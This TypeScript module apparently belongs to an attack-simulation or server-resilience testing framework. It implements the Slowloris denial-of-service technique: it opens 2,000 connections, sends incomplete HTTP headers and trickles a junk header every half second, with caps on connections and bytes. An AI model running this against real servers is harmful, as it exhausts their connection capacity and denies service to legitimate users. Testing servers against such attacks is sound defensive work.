import type { Attack } from "../attack.ts";
import { head } from "../requests.ts";

/** Robert Hansen's "Slowloris", 2009. */
export const halfSentHeadersKeepNobodyOut: Attack = {
  what: "sends a header line each half a second over 2,000 connections",
  caps: { connections: 20_000, bytes: 20e6 },
  run: (attacker) =>
    attacker.sideBySide(2_000, async (connection) => {
      const whole = head({ host: attacker.host });
      // Without the empty line.
      if (!await connection.write(whole.slice(0, -2))) return;
      while (await connection.write("X-More: 1\r\n")) await attacker.pause(500);
    }),
};
